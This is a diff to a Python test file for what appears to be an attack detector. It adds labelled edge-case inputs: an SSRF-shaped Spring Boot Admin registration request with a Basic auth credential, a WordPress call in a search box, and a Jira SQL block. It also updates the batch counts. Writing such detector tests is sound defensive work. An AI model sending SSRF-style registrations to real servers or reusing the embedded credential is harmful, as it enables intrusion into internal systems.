+    'raw::POST /instances HTTP/1.1\r\nHost: boot-admin.internal:8080\r\nUser-Agent: Java-http-client/17.0.10\r\nAccept: application/json\r\nAuthorization: Basic c2JhLWNsaWVudDpSM2chc3Rlcg==\r\nContent-Type: application/json\r\nContent-Length: 248\r\n\r\n{"name":"orders-service","managementUrl":"http://10.42.3.17:8081/actuator","healthUrl":"http://10.42.3.17:8081/actuator/health","serviceUrl":"http://10.42.3.17:8080/","metadata":{"startup":"2024-03-04T10:15:22.481+01:00","tags.environment":"prod"}}':
+        'a Spring Boot Admin registration naming private-address URLs the server will call: the shape of SSRF',
+    "query:s:add_filter('the_content') wpautop":
+        "a search for a WordPress call `add_filter('the_content')`: a function call with a string in a search box",
+    "form:description:{code:sql}SELECT id, status FROM orders WHERE status = 'PENDING' AND created_at < now() - interval '1 day';{code}":
+        'a Jira description with a SQL code block: code by design',
+})
+
 
 def _attacks() -> list[tuple[str, str, str, str]]:
     # round 4's writers added a description after the family: (family, description, carrier, key, value)
     return [*BLIND_ATTACKS_A, *BLIND_ATTACKS_B, *BLIND_ATTACKS_C, *BLIND_ATTACKS_D, *BLIND_ATTACKS_E, *BLIND_ATTACKS_F,
             *((f, c, k, v) for f, _what, c, k, v in (*BLIND_ATTACKS_G, *BLIND_ATTACKS_H, *BLIND_ATTACKS_J,
                                                   *BLIND_ATTACKS_K, *BLIND_ATTACKS_L, *BLIND_ATTACKS_M,
-                                                  *BLIND_ATTACKS_N, *BLIND_ATTACKS_P, *BLIND_ATTACKS_Q))]
+                                                  *BLIND_ATTACKS_N, *BLIND_ATTACKS_P, *BLIND_ATTACKS_Q,
+                                                  *BLIND_ATTACKS_S))]
 
 
 def _benign() -> list[tuple[str, str, str]]:
     return [*BLIND_BENIGN, *BLIND_BENIGN_2, *BLIND_BENIGN_3, *BLIND_BENIGN_4, *BLIND_BENIGN_5, *BLIND_BENIGN_6,
-            *BLIND_BENIGN_7, *BLIND_BENIGN_8]
+            *BLIND_BENIGN_7, *BLIND_BENIGN_8, *BLIND_BENIGN_10]
 
 
 def _label(carrier: str, key: str, value: str) -> str:
@@ -232,10 +266,10 @@ def _label(carrier: str, key: str, value: str) -> str:
 
 
 def test_batches_and_known_lists():
-    # independent writers converge on the classics: 145 attack requests and 39 benign values (the OAuth device-code
+    # independent writers converge on the classics: 159 attack requests and 39 benign values (the OAuth device-code
     # grant type, common browser headers, `Coeur d'Alene`) are in more than one batch, kept as written
-    assert len(_attacks()) == 3292 and len({tuple(a[1:]) for a in _attacks()}) == 3147
-    assert len(_benign()) == 2405 and len({tuple(b) for b in _benign()}) == 2366
+    assert len(_attacks()) == 3512 and len({tuple(a[1:]) for a in _attacks()}) == 3353
+    assert len(_benign()) == 2661 and len({tuple(b) for b in _benign()}) == 2622
     assert set(KNOWN_MISS) <= {_label(*a[1:]) for a in _attacks()}
     assert set(KNOWN_FP) <= {_label(*b) for b in _benign()}
 
